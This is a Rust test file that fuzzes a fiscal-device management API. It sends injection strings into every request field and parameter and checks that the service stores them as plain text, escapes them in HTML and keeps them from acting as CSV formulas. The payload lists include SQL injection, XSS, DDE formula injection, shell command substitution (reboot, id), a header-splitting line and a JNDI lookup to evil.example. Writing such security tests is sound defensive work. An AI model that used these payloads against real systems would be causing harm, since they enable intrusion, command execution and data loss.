//! Texts that mean something elsewhere, in every text field of every request of head office's document, by somebody who
//! may do everything: none is a defect of ours, and what is taken stands on pages, in answers and in CSV as the text that it is.

use std::collections::BTreeSet;
use std::time::Duration;

use fiscal_hq::access::Role;
use fiscal_hq::api;
use reqwest::Method;
use serde_json::{Value, json};

use crate::api::operations;
use crate::people::{Asker, send};
use crate::seed::{self, believable};
use crate::support::Test;

/// Texts that are code to somebody.
const LIVE: [&str; 14] = [
    "' OR '1'='1' --",
    "'); DROP TABLE stores;--",
    "$1 $$ E'\\\\x41' :name",
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "</title></textarea><svg/onload=alert(1)>",
    "javascript:alert(1)//",
    "&lt;b&gt; &#60;i&#62;",
    "{{7*7}} ${7*7} <%= 7*7 %>",
    "=cmd|' /C calc'!A1",
    "@SUM(1+1)*cmd",
    "\u{ff1d}1+1",
    "$(reboot) `reboot` |id",
    "%s%n {} ${jndi:ldap://evil.example/a}",
];

/// Texts with characters that steer something, or that Postgres cannot keep.
const STEERING: [&str; 8] = [
    "a\0b",
    "a\u{1b}[2Jb",
    "a\r\nX-Evil: b",
    "a\u{9b}31mb",
    "a\u{202e}b",
    "a\u{2028}b",
    "a\u{feff}b",
    "a\u{1f37a}b",
];

/// Follows references.
fn resolved<'d>(document: &'d Value, schema: &'d Value) -> &'d Value {
    match schema["$ref"].as_str() {
        Some(name) => {
            let name = name.rsplit('/').next().unwrap();
            resolved(document, &document["components"]["schemas"][name])
        }
        None => schema,
    }
}

/// Whether a schema allows this type.
fn is(schema: &Value, kind: &str) -> bool {
    let kinds = schema["type"].as_array().into_iter().flatten();
    schema["type"] == kind || kinds.into_iter().any(|one| one == kind)
}

/// Something that fits a schema, with all that it may have; the places of its texts go into `texts`.
fn fitting(document: &Value, schema: &Value, at: &str, texts: &mut BTreeSet<String>) -> Value {
    let schema = resolved(document, schema);
    for choice in ["oneOf", "anyOf", "allOf"] {
        let mut choices = schema[choice].as_array().into_iter().flatten();
        if let Some(one) = choices.find(|one| one["type"] != "null") {
            return fitting(document, one, at, texts);
        }
    }
    if is(schema, "string") {
        texts.insert(at.to_owned());
        return match (&schema["enum"][0], schema["format"].as_str()) {
            (Value::String(word), _) => json!(word),
            (_, Some("uuid")) => json!(uuid::Uuid::nil()),
            (_, Some("date-time")) => json!("2026-05-28T06:00:00Z"),
            (_, Some("date")) => json!("2026-05-28"),
            _ => json!("a text"),
        };
    }
    if is(schema, "array") {
        return json!([fitting(
            document,
            &schema["items"],
            &format!("{at}/0"),
            texts
        )]);
    }
    if schema["properties"].is_object() {
        let members = schema["properties"].as_object().into_iter().flatten();
        let members = members.map(|(name, member)| {
            let place = format!("{at}/{name}");
            (name.clone(), fitting(document, member, &place, texts))
        });
        return Value::Object(members.collect());
    }
    if is(schema, "boolean") {
        return json!(true);
    }
    json!(1)
}

/// A path with values of what is there.
fn filled(path: &str, shop: &seed::Shop) -> String {
    let parts = path.split('/').map(|part| match part {
        "{environment}" => "prod".to_owned(),
        "{device}" | "{device_id}" => seed::BUSY.0.to_string(),
        "{store}" | "{store_id}" | "{id}" => shop.stores[0].to_string(),
        "{version}" | "{day}" | "{number}" => "1".to_owned(),
        "{kind}" | "{action}" | "{what}" => "retire".to_owned(),
        name if name.starts_with('{') => uuid::Uuid::nil().to_string(),
        fixed => fixed.to_owned(),
    });
    parts.collect::<Vec<_>>().join("/")
}

/// A text as it stands in HTML.
fn escaped(text: &str) -> String {
    text.replace('&', "&amp;")
        .replace('<', "&lt;")
        .replace('>', "&gt;")
        .replace('"', "&quot;")
}

/// What is asked by somebody, with time in between: else it would be a flood.
async fn ask(test: &Test, request: reqwest::RequestBuilder) -> crate::people::Answer {
    test.clock.advance(Duration::from_secs(2));
    send(request).await
}

/// Every text of every body.
#[tokio::test]
async fn no_field_of_any_request_is_a_defect() {
    let test = Test::start().await;
    let shop = believable(&test, "Baobab Stores").await;
    let admin = Asker::machine(&test, shop.tenant, Role::Admin, "machine").await;
    let document: Value = serde_json::from_str(api::document()).unwrap();
    let (mut asked, mut taken, mut wrong) = (0, 0, Vec::new());
    for (method, path, operation) in operations(&document) {
        let schema = &operation["requestBody"]["content"]["application/json"]["schema"];
        if !schema.is_object() {
            continue;
        }
        let mut texts = BTreeSet::new();
        let good = fitting(&document, schema, "", &mut texts);
        for place in &texts {
            for text in LIVE.into_iter().chain(STEERING) {
                let mut body = good.clone();
                *body.pointer_mut(place).unwrap() = json!(text);
                let request = admin.request(method.clone(), &filled(&path, &shop));
                let answer = ask(&test, request.json(&body)).await;
                if answer.status >= 500 {
                    wrong.push(format!("{method} {path} {place} {text:?}: {}", answer.text));
                }
                let steers = |c: char| c.is_control() && c != '\n';
                if answer.text.contains(steers) {
                    wrong.push(format!("{method} {path} {place} {text:?} is said back"));
                }
                asked += 1;
                taken += usize::from(answer.status < 300);
            }
        }
    }
    assert!(wrong.is_empty(), "{wrong:#?}");
    assert!(asked > 500 && taken > 10, "{asked} asked, {taken} taken");
    // Nothing of it was run: the tables are there, and the company with its stores.
    let stores = admin.get("/fiscal_devices/stores").await.read(200);
    assert!(stores.as_array().unwrap().len() >= 3, "{stores}");
    let person = Asker::with_password(&test, &shop.email, seed::PASSWORD).await;
    pages_are_text(&test, &person).await;
}

/// Every parameter of every path that is read.
#[tokio::test]
async fn no_parameter_is_a_defect() {
    let test = Test::start().await;
    let shop = believable(&test, "Baobab Stores").await;
    let admin = Asker::machine(&test, shop.tenant, Role::Admin, "machine").await;
    let document: Value = serde_json::from_str(api::document()).unwrap();
    let (mut asked, mut wrong) = (0, Vec::new());
    for (method, path, operation) in operations(&document) {
        if method != Method::GET || operation["security"].is_array() {
            continue;
        }
        for parameter in operation["parameters"].as_array().into_iter().flatten() {
            let name = parameter["name"].as_str().unwrap();
            for text in LIVE.into_iter().chain(STEERING) {
                let value: String = form_urlencoded::byte_serialize(text.as_bytes()).collect();
                let value = value.replace('+', "%20");
                let target = match parameter["in"].as_str() {
                    Some("path") => filled(&path.replace(&format!("{{{name}}}"), &value), &shop),
                    _ => format!("{}?{name}={value}", filled(&path, &shop)),
                };
                let answer = ask(&test, admin.request(Method::GET, &target)).await;
                if answer.status >= 500 {
                    wrong.push(format!("{path} {name} {text:?}: {}", answer.text));
                }
                let kind = answer.headers.get("content-type");
                let is_page = kind.is_some_and(|kind| kind.as_bytes().starts_with(b"text/html"));
                if is_page && text.contains('<') && answer.text.contains(text) {
                    wrong.push(format!("{path} {name} takes {text:?} for markup"));
                }
                asked += 1;
            }
        }
    }
    assert!(wrong.is_empty(), "{wrong:#?}");
    assert!(asked > 300, "{asked}");
}

/// Names that people give, to stores, tills and tokens: taken as they are, and text on the pages.
#[tokio::test]
async fn names_stay_text() {
    let test = Test::start().await;
    let shop = believable(&test, "Baobab Stores").await;
    let person = Asker::with_password(&test, &shop.email, seed::PASSWORD).await;
    for text in LIVE {
        let made = person
            .post("/fiscal_devices/stores", json!({ "name": text }))
            .await;
        assert_eq!(made.status, 201, "{text:?}: {}", made.text);
        assert_eq!(made.json()["name"], text);
        let token = json!({ "name": text, "role": "viewer" });
        let made = person.post("/tokens", token).await;
        assert!(made.status < 300, "{text:?}: {}", made.text);
    }
    for page in ["/stores", "/people"] {
        let shown = person.get(page).await;
        assert_eq!(shown.status, 200);
        for text in LIVE {
            assert!(
                shown.text.contains(&escaped(text)),
                "{page} does not show {text:?}"
            );
        }
    }
    pages_are_text(&test, &person).await;
}

/// No page that is there takes any of the texts for markup, and no cell of a CSV for a formula.
async fn pages_are_text(test: &Test, person: &Asker) {
    let document: Value = serde_json::from_str(api::document()).unwrap();
    let mut looked = 0;
    for (method, path, _) in operations(&document) {
        if method != Method::GET || path.contains('{') {
            continue;
        }
        let answer = ask(test, person.request(Method::GET, &path)).await;
        assert!(answer.status < 500, "{path}: {}", answer.text);
        let kind = answer.headers.get("content-type");
        let kind = kind.map_or("", |kind| kind.to_str().unwrap()).to_owned();
        if kind.starts_with("text/html") {
            for text in LIVE.into_iter().filter(|text| text.contains('<')) {
                assert!(
                    !answer.text.contains(text),
                    "{path} takes {text:?} for markup"
                );
            }
            looked += 1;
        }
        if kind.starts_with("text/csv") {
            for line in answer.text.lines() {
                let begins = [",=cmd", ",@SUM", ",\u{ff1d}", ",\"=", ",\"@"];
                let formula = begins.iter().find(|begin| line.contains(*begin));
                assert_eq!(formula, None, "{path}: {line}");
            }
        }
    }
    assert!(looked > 10, "{looked} pages");
}
